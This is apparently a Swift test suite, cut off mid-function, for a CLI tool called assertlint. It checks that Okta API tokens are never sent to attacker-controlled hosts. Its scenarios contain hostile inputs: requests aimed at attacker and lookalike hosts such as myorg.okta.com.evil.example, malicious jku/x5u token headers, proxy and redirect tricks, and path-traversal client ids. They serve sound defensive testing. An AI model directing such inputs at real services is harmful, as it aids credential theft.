import Foundation
import Testing
@testable import AssertLintKit

// Issue 9, online part: a management token goes only to the origin the user named outside the
// input (OKTA_ORG_URL, --org-url, --issuer), never to a host that only the input, a fixture or a
// repository's `.assertlint.yml` names, and probe prints none of the credentials it sent.
//
// Each scenario runs the assertlint binary against loopback servers: an attacker's host (which
// answers everything: discovery documents pointing at itself, a management API that accepts any
// token, an echo), a second attacker on 127.0.0.2 at the org's port (an origin that differs from
// the org only by host), and the Okta stand-in as the org the user named. The invariant checked
// after every scenario: no request carrying a credential (an Authorization header, or the token
// anywhere in the request) reaches either attacker, and the org receives one only when the
// scenario names its origin.
//
// The scenarios run in a private network namespace (`unshare -rn`, only loopback up), so a bug
// cannot reach a real host: `allScenariosInAPrivateNetworkNamespace` re-runs this test binary
// there with `ASSERTLINT_HOSTILE_NETNS=1`, which enables `scenario`. Where unshare is unavailable
// both are skipped, with the reason.
@Suite struct OnlineHostileTests {
    @Test(.enabled(if: HostileNetwork.inside, "runs only inside the private network namespace that allScenariosInAPrivateNetworkNamespace starts"),
          .timeLimit(.minutes(1)),
          arguments: HostileScenario.all)
    func scenario(_ s: HostileScenario) throws {
        let run = try OnlineHostileRun(s)
        defer { run.stop() }
        let output = try run.execute()
        let text = output.stdout + output.stderr
        // Text output wraps long lines and JSON may escape "/": compare the words, not the layout.
        let words = text.replacingOccurrences(of: "\\/", with: "/")
            .replacingOccurrences(of: "\n\\s+", with: " ", options: .regularExpression)
        let token = HostileScenario.token

        // The invariant: no credential reaches an attacker; the org gets one only when named.
        for (name, server) in [("attacker", run.attacker), ("attacker on 127.0.0.2", run.attacker2)] {
            // probe sends the request's own credentials where the request says (the user asked it to).
            let leaked = server.requests.filter(OnlineHostileRun.carriesCredential).filter { _ in s.args.first != "probe" }
            #expect(leaked.isEmpty, "\(name) received a credential: \(leaked.map { "\($0.method) \($0.target)" })\n\(text)")
            // A URL named by the token itself (jku, x5u) is never fetched.
            #expect(!server.requests.contains { $0.path.hasSuffix("/jku.json") || $0.path.hasSuffix("/x5u.pem") })
        }
        let orgCredentialed = run.org.requests.filter(OnlineHostileRun.carriesCredential)
        if s.orgGetsCredential {
            #expect(!orgCredentialed.isEmpty, "the named org received no credential\n\(text)")
        } else {
            #expect(orgCredentialed.isEmpty, "the org received a credential it was not named for\n\(text)")
        }
        // Only the management API is sent the credential, under the client id's one path segment.
        for r in orgCredentialed {
            #expect(r.path.hasPrefix("/oauth2/v1/clients/") || r.path.hasPrefix("/api/v1/apps/"), "\(r.method) \(r.target)")
            #expect(!r.path.dropFirst().contains("/..") && !r.path.hasSuffix("/"), "\(r.target)")
        }
        if let paths = s.attackerPathsAllowed {
            let seen = run.attacker.requests.map(\.path)
            #expect(seen.allSatisfy { p in paths.contains { p.hasPrefix($0) } }, "attacker saw \(seen)")
        }
        if let n = s.attackerRequestCount {
            #expect(run.attacker.requests.count == n, "attacker saw \(run.attacker.requests.map(\.target))")
        }
        if let status = s.status {
            #expect(output.status == status, "exit \(output.status)\n\(text)")
        }
        for needle in s.contains.map(run.fill) {
            #expect(words.contains(needle), "missing «\(needle)» in:\n\(text)")
        }
        for needle in (s.lacks.map(run.fill) + [token, String(token.prefix(12))]) {
            #expect(!text.contains(needle), "«\(needle)» printed:\n\(text)")
        }
        // Every error of the tool is one line naming an input or option.
        for line in output.stderr.split(separator: "\n") {
            #expect(line.hasPrefix("assertlint: ") || line.hasPrefix("Send this"), "\(line)")
        }
    }

    // Alone the 45 scenarios take about 6 s; the limit only stops a hang when the machine is busy.
    @Test(.enabled(if: !HostileNetwork.inside && HostileNetwork.unshare.works, "\(HostileNetwork.unshare.reason)"),
          .timeLimit(.minutes(3)))
    func allScenariosInAPrivateNetworkNamespace() throws {
        let log = FileManager.default.temporaryDirectory.appendingPathComponent("assertlint-hostile-\(UUID().uuidString).log")
        try FileManager.default.createDirectory(at: log, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: log) }
        let binary = try FileManager.default.destinationOfSymbolicLink(atPath: "/proc/self/exe")
        var env = ProcessInfo.processInfo.environment
        env[HostileNetwork.marker] = "1"
        env[HostileNetwork.logVariable] = log.path
        let script = #"ip link set lo up && exec "$0" --testing-library swift-testing --filter 'OnlineHostileTests/scenario'"#
        let run = try ProcessSupport.run("unshare", ["-rn", "sh", "-c", script, binary], environment: env)
        let entries = (try? FileManager.default.contentsOfDirectory(at: log, includingPropertiesForKeys: nil)) ?? []
        let ran = Set(entries.compactMap { try? String(contentsOf: $0, encoding: .utf8) }.map { $0.trimmingCharacters(in: .newlines) })
        let failures = run.stdout.split(separator: "\n").filter { $0.contains("✘") }.prefix(40).joined(separator: "\n")
        #expect(run.status == 0, "the scenarios failed in the namespace:\n\(failures)\n\(run.stderr.suffix(2000))")
        // Every scenario ran there, inside the namespace (each writes its name when it starts).
        let missing = HostileScenario.all.map(\.name).filter { !ran.contains($0) }
        #expect(missing.isEmpty, "did not run in the namespace: \(missing)")
        #expect(HostileScenario.all.count >= 30)
    }

    @Test func scenarioNamesAreUnique() {
        let names = HostileScenario.all.map(\.name)
        #expect(Set(names).count == names.count)
    }
}

enum HostileNetwork {
    static let marker = "ASSERTLINT_HOSTILE_NETNS"
    static let logVariable = "ASSERTLINT_HOSTILE_LOG"
    static var inside: Bool { ProcessInfo.processInfo.environment[marker] == "1" }

    /// Whether `unshare -rn` (an unprivileged user and network namespace) and `ip` work here.
    static let unshare: (works: Bool, reason: String) = {
        guard let probe = try? ProcessSupport.run("unshare", ["-rn", "sh", "-c", "ip link set lo up"]) else {
            return (false, "skipped: unshare is not installed, so the scenarios cannot run in a private network namespace")
        }
        guard probe.status == 0 else {
            return (false, "skipped: unshare -rn failed here (\(probe.stderr.prefix(120))), so the scenarios cannot run in a private network namespace")
        }
        return (true, "needs unshare -rn")
    }()
}

/// One attack, as a row of the table: the command, its environment and files (with the
/// placeholders {ATT}, {ATT2}, {ORG}, {ATTHOST}, {DIR}, {JWT}, {TOKEN}), and what must hold.
struct HostileScenario: Sendable, CustomTestStringConvertible {
    enum OrgBehaviour: Sendable {
        case standIn
        /// The management API answers 302 to the attacker.
        case redirectsManagementToAttacker
        /// Discovery answers 302 to the attacker's discovery document.
        case redirectsDiscoveryToAttacker
        /// The registration names a jwks_uri on the attacker's host.
        case registrationKeysAtAttacker
    }

    enum AttackerBehaviour: Sendable {
        case greedy
        /// The discovery document names `gopher://` endpoints.
        case gopherEndpoints
        /// Every answer echoes the request it got, headers and body.
        case echo
    }

    var name: String
    var args: [String]
    var env: [String: String] = [:]
    var files: [String: String] = [:]
    var stdin: String?
    var org: OrgBehaviour = .standIn
    var attacker: AttackerBehaviour = .greedy
    var orgGetsCredential = false
    var status: Int32?
    var contains: [String] = []
    var lacks: [String] = []
    /// Path prefixes the attacker may see (nil: any, credential-free).
    var attackerPathsAllowed: [String]?
    var attackerRequestCount: Int?

    var testDescription: String { name }

    static let token = OktaStandIn.apiToken
    static let clientID = OktaStandIn.clientID
    static let probeSecret = "pr0beSECRET-value-9f8e7d"
    static let basicPassword = "basicPASS-5566aabb"

    static let ssws = ["OKTA_API_TOKEN": "{TOKEN}"]
    static let sswsOrg = ["OKTA_API_TOKEN": "{TOKEN}", "OKTA_ORG_URL": "{ORG}"]

    static func curl(_ base: String, clientID: String = clientID) -> String {
        """
        curl -X POST '\(base)/oauth2/v1/token' -H 'Content-Type: application/x-www-form-urlencoded' \\
          -d 'grant_type=client_credentials' -d 'client_id=\(clientID)' \\
          -d 'client_assertion_type=urn:ietf:params:oauth:client-assertion-type:jwt-bearer' -d 'client_assertion={JWT}'
        """
    }

    static func fixture(_ base: String) -> String {
        """
        request:
          url: \(base)/oauth2/v1/token
          form:
            grant_type: client_credentials
            client_id: \(clientID)
            client_assertion_type: urn:ietf:params:oauth:client-assertion-type:jwt-bearer
            client_assertion: {JWT}
        """
    }

    static let rawHTTP = """
        POST /oauth2/v1/token HTTP/1.1
        Host: {ATTHOST}
        Content-Type: application/x-www-form-urlencoded

        grant_type=client_credentials&client_id=\(clientID)&client_assertion_type=urn%3Aietf%3Aparams%3Aoauth%3Aclient-assertion-type%3Ajwt-bearer&client_assertion={JWT}
        """

    static let httpFile = """
        @host = {ATT}
        ### token
        POST {{host}}/oauth2/v1/token
        Content-Type: application/x-www-form-urlencoded

        grant_type=client_credentials&client_id=\(clientID)&client_assertion_type=urn:ietf:params:oauth:client-assertion-type:jwt-bearer&client_assertion={JWT}
        """

    static let har = """
        {"log":{"version":"1.2","entries":[{"request":{"method":"POST","url":"{ATT}/oauth2/v1/token",
        "headers":[{"name":"Content-Type","value":"application/x-www-form-urlencoded"}],
        "postData":{"mimeType":"application/x-www-form-urlencoded","text":"grant_type=client_credentials&client_id=\(clientID)&client_assertion_type=urn%3Aietf%3Aparams%3Aoauth%3Aclient-assertion-type%3Ajwt-bearer&client_assertion={JWT}"}},
        "response":{"status":401,"content":{"mimeType":"application/json","text":"{}"}}}]}}
        """

    static let discoveryOnly = ["/.well-known/openid-configuration"]
    static let noOriginNote = "OKTA_API_TOKEN is set, but no origin is named for it; set OKTA_ORG_URL="
    static let orgRead = "online: registration read from {ORG} with OKTA_API_TOKEN (GET /oauth2/v1/clients/\(clientID)"

    static let all: [HostileScenario] = credentialScenarios + checkScenarios + originScenarios + probeScenarios

    /// diagnose: every input kind that can name the attacker's host.
    static let credentialScenarios: [HostileScenario] = [
        HostileScenario(name: "fixture URL at the attacker, token, no origin named",
                        args: ["diagnose", "--online", "{DIR}/f.yaml"], env: ssws, files: ["f.yaml": fixture("{ATT}")],
                        contains: [noOriginNote, "online: discovery read from {ATT} (GET /.well-known/openid-configuration"],
                        attackerPathsAllowed: discoveryOnly),
        HostileScenario(name: "curl file at the attacker, token, no origin named",
                        args: ["diagnose", "--online", "{DIR}/r.curl"], env: ssws, files: ["r.curl": curl("{ATT}")],
                        contains: [noOriginNote], attackerPathsAllowed: discoveryOnly),
        HostileScenario(name: "curl on stdin at the attacker, access token, no origin named",
                        args: ["diagnose", "--online", "-"], env: ["OKTA_ACCESS_TOKEN": "{TOKEN}"], stdin: curl("{ATT}"),
                        contains: ["OKTA_ACCESS_TOKEN is set, but no origin is named for it"], attackerPathsAllowed: discoveryOnly),
        HostileScenario(name: "raw HTTP request whose Host is the attacker",
                        args: ["diagnose", "--online", "{DIR}/r.txt"], env: ssws, files: ["r.txt": rawHTTP],
                        contains: [noOriginNote], attackerPathsAllowed: discoveryOnly),
        HostileScenario(name: ".http file whose @host is the attacker",
                        args: ["diagnose", "--online", "{DIR}/r.http"], env: ssws, files: ["r.http": httpFile],
                        contains: [noOriginNote], attackerPathsAllowed: discoveryOnly),
        HostileScenario(name: "HAR entry at the attacker",
                        args: ["diagnose", "--online", "{DIR}/r.har"], env: ssws, files: ["r.har": har],
                        contains: [noOriginNote], attackerPathsAllowed: discoveryOnly),
        HostileScenario(name: "token file, no origin named",
                        args: ["diagnose", "--online", "{DIR}/r.curl"], env: ["OKTA_API_TOKEN_FILE": "{DIR}/token"],
                        files: ["r.curl": curl("{ATT}"), "token": "{TOKEN}\n"],
                        contains: ["OKTA_API_TOKEN_FILE is set, but no origin is named for it"], attackerPathsAllowed: discoveryOnly),
        HostileScenario(name: "access token file, no origin named",
                        args: ["diagnose", "--online", "{DIR}/r.curl"], env: ["OKTA_ACCESS_TOKEN_FILE": "{DIR}/token"],
                        files: ["r.curl": curl("{ATT}"), "token": "Bearer {TOKEN}\n"],
                        contains: ["OKTA_ACCESS_TOKEN_FILE is set"], attackerPathsAllowed: discoveryOnly),
        HostileScenario(name: "bare token whose aud, jku and x5u name the attacker",
                        args: ["diagnose", "--online", "{JWT}"], env: sswsOrg, orgGetsCredential: true, attackerRequestCount: 0),
        HostileScenario(name: "fixture at the attacker, OKTA_ORG_URL names the org",
                        args: ["diagnose", "--online", "{DIR}/f.yaml"], env: sswsOrg, files: ["f.yaml": fixture("{ATT}")],
                        orgGetsCredential: true, contains: [orgRead], attackerPathsAllowed: discoveryOnly),
        HostileScenario(name: "curl at the attacker, --org-url names the org",
                        args: ["diagnose", "--online", "--org-url", "{ORG}", "{DIR}/r.curl"], env: ssws, files: ["r.curl": curl("{ATT}")],
                        orgGetsCredential: true, contains: [orgRead], attackerPathsAllowed: discoveryOnly),
        HostileScenario(name: "access token at the attacker's request, OKTA_ORG_URL names the org",
                        args: ["diagnose", "--online", "{DIR}/r.curl"], env: ["OKTA_ACCESS_TOKEN": "{TOKEN}", "OKTA_ORG_URL": "{ORG}"],
                        files: ["r.curl": curl("{ATT}")], orgGetsCredential: true,
                        contains: ["assertlint: GET {ORG}/oauth2/v1/clients/\(clientID): HTTP 401"]),
        HostileScenario(name: "token file, OKTA_ORG_URL names the org",
                        args: ["diagnose", "--online", "{DIR}/r.curl"], env: ["OKTA_API_TOKEN_FILE": "{DIR}/token", "OKTA_ORG_URL": "{ORG}"],
                        files: ["r.curl": curl("{ATT}"), "token": "{TOKEN}\n"], orgGetsCredential: true,
                        contains: ["online: registration read from {ORG} with OKTA_API_TOKEN_FILE"]),
        HostileScenario(name: "--issuer at the attacker while OKTA_ORG_URL names the org",
                        args: ["diagnose", "--online", "--issuer", "{ATT}", "{DIR}/r.curl"], env: sswsOrg, files: ["r.curl": curl("{ATT}")],
                        orgGetsCredential: true, contains: [orgRead], attackerPathsAllowed: discoveryOnly),
        HostileScenario(name: "--issuer names the org, the request goes to the attacker",
                        args: ["diagnose", "--online", "--issuer", "{ORG}", "{DIR}/r.curl"], env: ssws, files: ["r.curl": curl("{ATT}")],
                        orgGetsCredential: true, contains: [orgRead], attackerRequestCount: 0),
        HostileScenario(name: "HTTPS_PROXY and ALL_PROXY point at the attacker",
                        args: ["diagnose", "--online", "{DIR}/r.curl"],
                        env: sswsOrg.merging(["HTTPS_PROXY": "{ATT}", "HTTP_PROXY": "{ATT}", "ALL_PROXY": "{ATT}"]) { $1 },
                        files: ["r.curl": curl("{ORG}")], orgGetsCredential: true, contains: [orgRead], attackerRequestCount: 0),
    ]

    /// check, and what a repository's `.assertlint.yml` can and cannot do.
    static let checkScenarios: [HostileScenario] = [
        HostileScenario(name: "check --online, fixture at the attacker, nothing listed",
                        args: ["check", "--online", "{DIR}/f.yaml"], env: ssws, files: ["f.yaml": fixture("{ATT}")],
                        contains: ["discovery document: {ATT} is not listed"], attackerRequestCount: 0),
        HostileScenario(name: "config online: true, fixture at the attacker",
                        args: ["check", "{DIR}"], env: ssws, files: [".assertlint.yml": "online: true\n", "f.yaml": fixture("{ATT}")],
                        contains: ["is not listed"], attackerRequestCount: 0),
        HostileScenario(name: "config lists the attacker for discovery, token, no origin",
                        args: ["check", "{DIR}"], env: ssws,
                        files: [".assertlint.yml": "online: {hosts: ['{ATT}']}\n", "f.yaml": fixture("{ATT}")],
                        contains: [noOriginNote], attackerPathsAllowed: discoveryOnly),
        HostileScenario(name: "check's text output says once what was read where and what was not",
                        args: ["check", "--format", "text", "{DIR}"], env: ssws,
                        files: [".assertlint.yml": "online: {hosts: ['{ATT}']}\n", "a.yaml": fixture("{ATT}"), "b.yaml": fixture("{ATT}")],
                        contains: ["\nonline: discovery read from {ATT} (GET /.well-known/openid-configuration?client_id=\(clientID))\nonline: not fetched: app registration: " + noOriginNote],
                        attackerPathsAllowed: discoveryOnly, attackerRequestCount: 1),
        HostileScenario(name: "config lists the attacker, OKTA_ORG_URL names the org",
                        args: ["check", "{DIR}"], env: sswsOrg,
                        files: [".assertlint.yml": "online: {hosts: ['{ATT}']}\n", "f.yaml": fixture("{ATT}")],
                        orgGetsCredential: true, contains: [orgRead], attackerPathsAllowed: discoveryOnly),
        HostileScenario(name: "config tries to name where the token goes",
                        args: ["check", "{DIR}"], env: ssws,
                        files: [".assertlint.yml": "online: {hosts: ['{ATT}'], org_url: '{ATT}'}\n", "f.yaml": fixture("{ATT}")],
                        status: 2, contains: ["unknown key 'online.org_url' (expected one of: enabled, hosts)"], attackerRequestCount: 0),
        HostileScenario(name: "config app block and online: true, OKTA_ORG_URL names the org",
                        args: ["check", "{DIR}"], env: sswsOrg,
                        files: [".assertlint.yml": "online: true\napp: {client_id: \(clientID)}\n", "f.yaml": fixture("{ATT}")],
                        orgGetsCredential: true, contains: [orgRead, "is not listed"], attackerRequestCount: 0),
        HostileScenario(name: "discovery at a listed attacker announces gopher endpoints",
                        args: ["check", "{DIR}"], env: sswsOrg,
                        files: [".assertlint.yml": "online: {hosts: ['{ATT}']}\n", "f.yaml": fixture("{ATT}")],
                        attacker: .gopherEndpoints, orgGetsCredential: true,
                        contains: ["token_endpoint: the discovery document gives 'gopher://", "which is not an https URL; it was ignored"],
                        lacks: ["from the server: token endpoint: gopher"], attackerPathsAllowed: discoveryOnly),
        HostileScenario(name: "twenty copies of one request make one discovery fetch",
                        args: ["check", "{DIR}"], env: sswsOrg,
                        files: Dictionary(uniqueKeysWithValues: (0..<20).map { ("f\($0).yaml", fixture("{ATT}")) }
                                          + [(".assertlint.yml", "online: {hosts: ['{ATT}']}\n")]),
                        orgGetsCredential: true, attackerRequestCount: 1),
        HostileScenario(name: "check without --online never reads the token file",
                        args: ["check", "{DIR}/f.yaml"], env: ["OKTA_API_TOKEN_FILE": "{DIR}/missing-token", "OKTA_ORG_URL": "{ORG}"],
                        files: ["f.yaml": fixture("{ATT}")], lacks: ["token file", "missing-token", "online:"], attackerRequestCount: 0),
        HostileScenario(name: "config turns online on, token file missing: one error",
                        args: ["check", "{DIR}"], env: ["OKTA_API_TOKEN_FILE": "{DIR}/missing-token", "OKTA_ORG_URL": "{ORG}"],
                        files: [".assertlint.yml": "online: true\n", "f.yaml": fixture("{ORG}")], status: 2,
                        contains: ["OKTA_API_TOKEN_FILE {DIR}/missing-token: cannot read the token file: no such file"]),
    ]

    /// Redirects, lookalike hosts and origins named wrongly.
    static let originScenarios: [HostileScenario] = [
        HostileScenario(name: "the org's management API redirects to the attacker",
                        args: ["diagnose", "--online", "{DIR}/r.curl"], env: sswsOrg, files: ["r.curl": curl("{ORG}")],
                        org: .redirectsManagementToAttacker, orgGetsCredential: true, status: 2,
                        contains: ["HTTP 302"], attackerRequestCount: 0),
        HostileScenario(name: "the org's discovery redirects to the attacker",
                        args: ["diagnose", "--online", "{DIR}/r.curl"], env: sswsOrg, files: ["r.curl": curl("{ORG}")],
                        org: .redirectsDiscoveryToAttacker, orgGetsCredential: true, status: 2,
                        contains: ["redirected to another origin ({ATT}); assertlint follows redirects only within {ORG}"],
                        attackerRequestCount: 0),
        HostileScenario(name: "the registration's jwks_uri is on the attacker's host",
                        args: ["diagnose", "--online", "{DIR}/r.curl"], env: sswsOrg, files: ["r.curl": curl("{ORG}")],
                        org: .registrationKeysAtAttacker, orgGetsCredential: true,
                        contains: ["online: keys read from {ATT} (GET /client-keys.json, no credential)"], attackerPathsAllowed: ["/client-keys.json"]),
        HostileScenario(name: "same port, other loopback host (127.0.0.2) in the request",
                        args: ["diagnose", "--online", "{DIR}/r.curl"], env: sswsOrg, files: ["r.curl": curl("{ATT2}")],
                        orgGetsCredential: true, contains: [orgRead, "online: discovery read from {ATT2}"]),
        HostileScenario(name: "suffix lookalike myorg.okta.com.evil.example",
                        args: ["diagnose", "--online", "--timeout", "2", "{DIR}/r.curl"],
                        env: ["OKTA_API_TOKEN": "{TOKEN}", "OKTA_ORG_URL": "https://myorg.okta.com"],
                        files: ["r.curl": curl("https://myorg.okta.com.evil.example")], status: 2,
                        contains: ["assertlint: GET https://myorg.okta.com/oauth2/v1/clients/\(clientID): DNS lookup failed"],
                        lacks: ["evil.example/oauth2/v1/clients", "evil.example/api/v1/apps"]),
        HostileScenario(name: "prefix lookalike evil-myorg.okta.com",
                        args: ["diagnose", "--online", "--timeout", "2", "{DIR}/r.curl"],
                        env: ["OKTA_API_TOKEN": "{TOKEN}", "OKTA_ORG_URL": "https://myorg.okta.com"],
                        files: ["r.curl": curl("https://evil-myorg.okta.com")], status: 2,
                        contains: ["GET https://myorg.okta.com/oauth2/v1/clients/"],
                        lacks: ["evil-myorg.okta.com/oauth2/v1/clients", "evil-myorg.okta.com/api/v1/apps"]),
        HostileScenario(name: "the org's -admin host is another origin",
                        args: ["diagnose", "--online", "--timeout", "2", "{DIR}/r.curl"],
                        env: ["OKTA_API_TOKEN": "{TOKEN}", "OKTA_ORG_URL": "https://myorg.okta.com"],
                        files: ["r.curl": curl("https://myorg-admin.okta.com")], status: 2,
                        contains: ["GET https://myorg.okta.com/oauth2/v1/clients/"], lacks: ["myorg-admin.okta.com/oauth2/v1/clients"]),
        HostileScenario(name: "OKTA_ORG_URL with userinfo is refused",
                        args: ["diagnose", "--online", "{DIR}/r.curl"],
                        env: ["OKTA_API_TOKEN": "{TOKEN}", "OKTA_ORG_URL": "http://user:pw-XYZ@{ATTHOST}"], files: ["r.curl": curl("{ATT}")],
                        status: 2, contains: ["assertlint: OKTA_ORG_URL: must not hold a user name or password"],
                        lacks: ["pw-XYZ"], attackerRequestCount: 0),
        HostileScenario(name: "OKTA_ORG_URL over plain http to a public host is refused",
                        args: ["diagnose", "--online", "{DIR}/r.curl"],
                        env: ["OKTA_API_TOKEN": "{TOKEN}", "OKTA_ORG_URL": "http://myorg.okta.com"], files: ["r.curl": curl("{ATT}")],
                        status: 2, contains: ["assertlint: OKTA_ORG_URL: must be an https URL"], attackerRequestCount: 0),
        HostileScenario(name: "OKTA_ORG_URL with a path is refused",
                        args: ["diagnose", "--online", "{DIR}/r.curl"],
                        env: ["OKTA_API_TOKEN": "{TOKEN}", "OKTA_ORG_URL": "{ORG}/oauth2/default"], files: ["r.curl": curl("{ATT}")],
                        status: 2, contains: ["assertlint: OKTA_ORG_URL: give the org's origin only"], attackerRequestCount: 0),
        HostileScenario(name: "--org-url that is not a URL is refused",
                        args: ["diagnose", "--online", "--org-url", "myorg.okta.com", "{DIR}/r.curl"], env: ssws, files: ["r.curl": curl("{ATT}")],
                        status: 2, contains: ["assertlint: --org-url: not a URL"], attackerRequestCount: 0),
        HostileScenario(name: "client id '..' cannot reach another management path",
                        args: ["diagnose", "--online", "{DIR}/r.curl"], env: sswsOrg, files: ["r.curl": curl("{ORG}", clientID: "..")],
                        contains: ["app registration: no client id"]),
        HostileScenario(name: "client id with a slash and a query stays one path segment",
                        args: ["diagnose", "--online", "{DIR}/r.curl"], env: sswsOrg,
                        files: ["r.curl": curl("{ORG}", clientID: "x/../../api/v1/users?limit=200#")], orgGetsCredential: true, status: 2,
                        contains: ["GET {ORG}/oauth2/v1/clients/x%2F..%2F..%2Fapi%2Fv1%2Fusers%3Flimit%3D200%23"]),
    ]

    /// probe: neither its refusal, its network errors nor a server's echo show a credential sent.
    static let probeScenarios: [HostileScenario] = [
        HostileScenario(name: "probe refusal hides userinfo and query credentials",
                        args: ["probe", "-"], stdin: "curl -X POST 'http://user:\(basicPassword)@{ATTHOST}/oauth2/v1/token?client_secret=\(probeSecret)&x=1' -d grant_type=client_credentials",
                        status: 2, contains: ["assertlint: probe sends the request's credentials to http://(redacted)@{ATTHOST}/oauth2/v1/token?client_secret=(redacted)&x=1; pass --yes"],
                        lacks: [probeSecret, basicPassword], attackerRequestCount: 0),
        HostileScenario(name: "probe network error hides the URL's credentials",
                        args: ["probe", "--yes", "-"],
                        stdin: "curl -X POST 'http://user:\(basicPassword)@127.0.0.1:9/oauth2/v1/token?client_secret=\(probeSecret)' -d grant_type=client_credentials",
                        status: 2, contains: ["assertlint: POST http://(redacted)@127.0.0.1:9/oauth2/v1/token?client_secret=(redacted): connection refused"],
                        lacks: [probeSecret, basicPassword]),
        HostileScenario(name: "probe: a server echoing the form body and headers",
                        args: ["probe", "--yes", "-"],
                        stdin: "curl -X POST '{ATT}/oauth2/v1/token' -u '\(clientID):\(basicPassword)' -d grant_type=client_credentials -d 'client_secret=\(probeSecret)' -d 'client_assertion={JWT}'",
                        attacker: .echo, contains: ["server answered: HTTP 401", "(redacted)"],
                        lacks: [probeSecret, basicPassword, "{JWT}", "{SIG}", "{BASIC}"]),
        HostileScenario(name: "probe: a server echoing a JSON body with nested camelCase secrets",
                        args: ["probe", "--yes", "-"],
                        stdin: #"curl -X POST '{ATT}/oauth2/v1/token' -H 'Content-Type: application/json' -d '{"auth":{"clientSecret":"\#(probeSecret)"},"client-secret":"\#(basicPassword)"}'"#,
                        attacker: .echo, contains: ["server answered: HTTP 401"], lacks: [probeSecret, basicPassword]),
        HostileScenario(name: "probe: a server echoing the credentials percent-encoded",
                        args: ["probe", "--yes", "-"],
                        stdin: "curl -X POST '{ATT}/oauth2/v1/token' --data-urlencode 'client_secret=\(probeSecret)/+=' -d grant_type=client_credentials",
                        attacker: .echo, contains: ["server answered: HTTP 401"],
                        lacks: [probeSecret, FormEncoding.encode(probeSecret + "/+=")]),
        HostileScenario(name: "probe to plain http on a public host: refused, URL without credentials",
                        args: ["probe", "--yes", "-"],
                        stdin: "curl -X POST 'http://myorg.okta.com/oauth2/v1/token?access_token=\(probeSecret)#id_token=\(basicPassword)' -d grant_type=client_credentials",
                        status: 2, contains: ["assertlint: POST http://myorg.okta.com/oauth2/v1/token?access_token=(redacted)#id_token=(redacted): refused: plain http"],
                        lacks: [probeSecret, basicPassword]),
    ]
}

/// The servers and scratch directory of one scenario.
final class OnlineHostileRun: @unchecked Sendable {
    let scenario: HostileScenario
    let attacker: LoopbackHTTPServer
    let org: LoopbackHTTPServer
    let attacker2: LoopbackHTTPServer
    let directory: URL
    let jwt: String

    init(_ s: HostileScenario) throws {
        scenario = s
        directory = FileManager.default.temporaryDirectory.appendingPathComponent("assertlint-hostile-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
        let attackerBox = OktaStandIn.PortBox(), orgBox = OktaStandIn.PortBox()
        let attackerMode = s.attacker
        attacker = try LoopbackHTTPServer(lifetime: 30) { r in
            OnlineHostileRun.attackerAnswer(r, base: "http://127.0.0.1:\(attackerBox.port)", mode: attackerMode)
        }
        attackerBox.port = attacker.port
        let orgMode = s.org
        let attackerBase = attacker.base
        org = try LoopbackHTTPServer(lifetime: 30) { r in
            OnlineHostileRun.orgAnswer(r, base: "http://127.0.0.1:\(orgBox.port)", attacker: attackerBase, mode: orgMode)
        }
        orgBox.port = org.port
        let sameOrgPort = org.port
        attacker2 = try LoopbackHTTPServer(lifetime: 30, address: 0x7F00_0002, port: UInt16(sameOrgPort)) { r in
            OnlineHostileRun.attackerAnswer(r, base: "http://127.0.0.2:\(sameOrgPort)", mode: attackerMode)
        }
        let header = Base64URL.encode(#"{"alg":"RS256","kid":"k1","jku":"\#(attacker.base)/jku.json","x5u":"\#(attacker.base)/x5u.pem"}"#)
        let claims = Base64URL.encode(#"{"iss":"\#(HostileScenario.clientID)","sub":"\#(HostileScenario.clientID)","aud":"\#(attacker.base)/oauth2/v1/token","exp":4102444800,"jti":"h1"}"#)
        jwt = "\(header).\(claims).c2lnbmF0dXJlLWhvc3RpbGUtc2NlbmFyaW8"
        for (name, text) in s.files {
            try fill(text).write(to: directory.appendingPathComponent(name), atomically: true, encoding: .utf8)
        }
        if let log = ProcessInfo.processInfo.environment[HostileNetwork.logVariable] {
            // One file per scenario in the log directory: scenarios run in parallel, and appends
            // to one shared file through separate handles could overwrite each other.
            let entry = URL(fileURLWithPath: log).appendingPathComponent(UUID().uuidString)
            try Data((s.name + "\n").utf8).write(to: entry)
        }
    }

    func stop() {
        attacker.stop()
        org.stop()
        attacker2.stop()
        try? FileManager.default.removeItem(at: directory)
    }

    func fill(_ text: String) -> String {
        let signature = String(jwt.split(separator: ".").last ?? "")
        return text.replacingOccurrences(of: "{ATT2}", with: attacker2.base)
            .replacingOccurrences(of: "{ATTHOST}", with: "127.0.0.1:\(attacker.port)")
            .replacingOccurrences(of: "{ATT}", with: attacker.base)
            .replacingOccurrences(of: "{ORG}", with: org.base)
            .replacingOccurrences(of: "{DIR}", with: directory.path)
            .replacingOccurrences(of: "{JWT}", with: jwt)
            .replacingOccurrences(of: "{SIG}", with: signature)
            .replacingOccurrences(of: "{BASIC}", with: Data("\(HostileScenario.clientID):\(HostileScenario.basicPassword)".utf8).base64EncodedString())
            .replacingOccurrences(of: "{TOKEN}", with: HostileScenario.token)
    }

    func execute() throws -> ProcessSupport.Output {
        var args = scenario.args.map(fill)
        // Short timeouts: no scenario waits long for anything.
        if ["diagnose", "check", "probe"].contains(args.first ?? ""), !args.contains("--timeout") {
            args.insert(contentsOf: ["--timeout", "3"], at: 1)
        }
        // check's text format prints no notes; its JSON has them.
        if args.first == "check", !args.contains("--format") { args.insert(contentsOf: ["--format", "json"], at: 1) }
        var env = ["PATH": ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin", "NO_COLOR": "1",
                   "HOME": directory.path]
        for (k, v) in scenario.env { env[k] = fill(v) }
        return try ProcessSupport.run(try CLITests.binary().path, args, cwd: directory.path, environment: env,
                                      stdin: scenario.stdin.map(fill) ?? "")
    }

    /// An Authorization header, or the token anywhere in the request.
    static func carriesCredential(_ r: LoopbackHTTPServer.Request) -> Bool {
        let token = HostileScenario.token
        if r.header("Authorization") != nil || r.header("Proxy-Authorization") != nil { return true }
        let everything = r.target + r.headers.map { "\($0.name): \($0.value)" }.joined(separator: "\n") + r.bodyText
        return everything.contains(token) || everything.contains("SSWS") || everything.contains("Bearer ")
    }

    static func attackerAnswer(_ r: LoopbackHTTPServer.Request, base: String, mode: HostileScenario.AttackerBehaviour) -> LoopbackHTTPServer.Reply {
        if case .echo = mode {
            let headers = r.headers.map { "\($0.name)=\($0.value)" }.joined(separator: "; ")
            let json = JSONValue.object(JSONObject([
                JSONMember(key: "error", value: .string("invalid_client")),
                JSONMember(key: "error_description", value: .string("you sent: \(r.bodyText) with \(headers)")),
